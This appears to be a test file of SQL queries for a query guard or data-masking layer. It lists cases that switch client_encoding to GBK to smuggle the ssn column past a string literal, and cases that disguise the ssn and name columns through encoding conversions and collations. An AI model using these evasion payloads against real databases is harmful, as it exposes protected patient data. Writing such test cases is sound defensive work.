-- a string that ends elsewhere, by SET
SET client_encoding = 'GBK'
SELECT E'あ\', ssn FROM clinic.patients -- '
-- by set_config
SELECT set_config('client_encoding', 'GBK', false)
SELECT E'あ\', ssn FROM clinic.patients -- '
-- by set_config in a transaction
BEGIN
SELECT set_config('client_encoding', 'GBK', true)
SELECT E'あ\', ssn FROM clinic.patients -- '
-- by set_config before it in the text
SELECT set_config('client_encoding', 'GBK', false), 1; SELECT 1
SELECT E'あ\', ssn FROM clinic.patients -- '
-- by what was prepared
PREPARE e (text) AS SELECT set_config('client_encoding', $1, false)
EXECUTE e ('GBK')
SELECT E'あ\', ssn FROM clinic.patients -- '
-- by pg_settings
UPDATE pg_settings SET setting = 'GBK' WHERE name = 'client_encoding'
SELECT E'あ\', ssn FROM clinic.patients -- '
-- by code
DO $$ BEGIN PERFORM set_config('client_encoding', 'GBK', false); END $$
SELECT E'あ\', ssn FROM clinic.patients -- '
-- by a function
CREATE FUNCTION $V.enc () RETURNS text LANGUAGE sql AS $$ SELECT set_config('client_encoding', 'GBK', false) $$
SELECT $V.enc()
SELECT E'あ\', secret FROM $V.victim -- '
-- by the setting of a function that stays
CREATE FUNCTION $V.enc () RETURNS text LANGUAGE plpgsql SET DateStyle = 'ISO' AS $$ BEGIN SET client_encoding = 'GBK'; RETURN 'x'; END $$
SELECT $V.enc()
SELECT E'あ\', secret FROM $V.victim -- '
-- by the setting of the database
ALTER DATABASE CURRENT_DATABASE SET client_encoding = 'GBK'
SELECT E'あ', ssn FROM clinic.patients
-- by the setting of a function
CREATE FUNCTION $V.enc () RETURNS text LANGUAGE plpgsql SET client_encoding = 'GBK' AS $$ BEGIN RAISE NOTICE '%', (SELECT secret FROM $V.victim WHERE id = 1); RETURN 'x'; END $$
SELECT $V.enc()
-- by ROLLBACK
BEGIN
SET client_encoding = 'GBK'
ROLLBACK
SELECT E'あ', ssn FROM clinic.patients
-- one's own bytes
SELECT convert_from(convert_to(ssn, 'UTF8'), 'LATIN1'), convert_from(ssn::bytea, 'SQL_ASCII'), encode(convert(ssn::bytea, 'UTF8', 'WIN1252'), 'escape') FROM clinic.patients
-- to_ascii
SELECT to_ascii(convert_from(convert_to(full_name, 'UTF8'), 'LATIN1'), 'LATIN1'), to_ascii(full_name::bytea::text::name, 'LATIN1') FROM clinic.patients
-- to_ascii of bytes
SELECT to_ascii(convert_to(full_name, 'latin1')::text, 'latin1') FROM clinic.patients
-- normalized
SELECT normalize(full_name, NFKD), full_name IS NFC NORMALIZED FROM clinic.patients
-- unistr
SELECT unistr(full_name), unistr(replace(ssn, '-', '\002d')) FROM clinic.patients
-- a collation of PostgreSQL's
SELECT full_name COLLATE "C", lower(ssn COLLATE "und-x-icu") FROM clinic.patients
-- in free text
SELECT body COLLATE "C", normalize(body), unistr(body) FROM clinic.messages
-- a collation that is not deterministic, distinct
SELECT DISTINCT ssn COLLATE clinic.folding FROM clinic.patients
-- a collation that is not deterministic, grouped
SELECT full_name COLLATE clinic.folding AS n, min(ssn COLLATE clinic.folding) FROM clinic.patients GROUP BY 1 ORDER BY 2
-- a collation that is not deterministic, in a set operation
SELECT '0' COLLATE clinic.folding AS x UNION SELECT ssn FROM clinic.patients
-- a collation that is not deterministic, by a type
SELECT ssn::clinic.folded_text, ARRAY[full_name::clinic.folded_text] FROM clinic.patients WHERE full_name::clinic.folded_text <> 'x'
-- a collation that is not deterministic, joined
SELECT p.ssn FROM clinic.patients p JOIN (VALUES ('0' COLLATE clinic.folding)) v(k) ON p.ssn <> v.k
